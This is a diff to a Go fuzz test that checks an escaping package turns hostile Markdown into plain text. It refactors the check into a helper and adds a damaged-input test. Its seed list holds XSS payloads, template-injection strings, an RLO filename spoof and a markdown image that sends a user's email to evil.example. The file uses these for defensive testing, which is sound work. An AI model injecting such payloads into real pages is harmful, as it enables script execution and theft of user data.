@@ -12,6 +12,7 @@ import (
 	"github.com/yuin/goldmark/extension"
 	"github.com/yuin/goldmark/renderer/html"
 
+	"github.com/faultline-investigation/faultline/pkg/defect/provoke"
 	"github.com/faultline-investigation/faultline/pkg/escape"
 )
 
@@ -21,7 +22,7 @@ func hostile() []string {
 		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg/onload=alert(1)>`, `&lt;b&gt;`, `</table><h1>`,
 		`![x](https://evil.example/?u=${__user.email})`, `[click](javascript:alert(1))`, `<https://evil.example>`, `https://evil.example/x`, `www.evil.example`, `ana@evil.example`,
 		"`code`", "```js\nx\n```", `**bold** _it_ ~~gone~~`, "# heading", "> quote", "- item", "1. item", "+ item", "---", "=== x", "| a | b |", `\`, `\*`, "a\n\n# b", "$x$", "$$x$$",
-		`${__user.email}`, `$__all`, `[[name]]`, `${name:raw}`, `$service`, "\x1b[31mred\x1b[0m", "\u202egnp.exe", "a\x00b", "a\tb", "::: note", "[ref]: https://evil.example", "[^1]", "&#36;{x}", "<!-- x -->",
+		`${__user.email}`, `$__all`, `[[name]]`, `[[[name]]]`, `[[[[name]]`, `${name:raw}`, `$service`, "\x1b[31mred\x1b[0m", "\u202egnp.exe", "a\x00b", "a\tb", "::: note", "[ref]: https://evil.example", "[^1]", "&#36;{x}", "<!-- x -->",
 	}
 }
 
@@ -79,18 +80,30 @@ func FuzzMarkdownIsNothingButText(f *testing.F) {
 	for _, text := range hostile() {
 		f.Add(text)
 	}
-	f.Fuzz(func(t *testing.T, text string) {
-		for _, write := range []func(string) string{escape.Markdown, escape.Panel} {
-			var got bytes.Buffer
-			if err := reader.Convert([]byte("x "+write(text)), &got); err != nil {
-				t.Fatal(err)
-			}
-			if tags(got.String()) != "<p></p>" {
-				t.Fatalf("%q became %q", text, got.String())
-			}
+	f.Fuzz(nothingButText)
+}
+
+func TestDamagedTextsAreNothingButText(t *testing.T) {
+	t.Parallel()
+	var texts [][]byte
+	for _, text := range hostile() {
+		texts = append(texts, []byte(text))
+	}
+	provoke.Each(t, 3000, texts, func(text []byte) { nothingButText(t, string(text)) })
+}
+
+func nothingButText(t *testing.T, text string) {
+	t.Helper()
+	for _, write := range []func(string) string{escape.Markdown, escape.Panel} {
+		var got bytes.Buffer
+		if err := reader.Convert([]byte("x "+write(text)), &got); err != nil {
+			t.Fatal(err)
 		}
-		if variables.MatchString(escape.Panel(text)) || variables.MatchString(escape.Title(text)) {
-			t.Fatalf("%q is a variable", text)
+		if tags(got.String()) != "<p></p>" {
+			t.Fatalf("%q became %q", text, got.String())
 		}
-	})
+	}
+	if variables.MatchString(escape.Panel(text)) || variables.MatchString(escape.Title(text)) {
+		t.Fatalf("%q is a variable", text)
+	}
 }
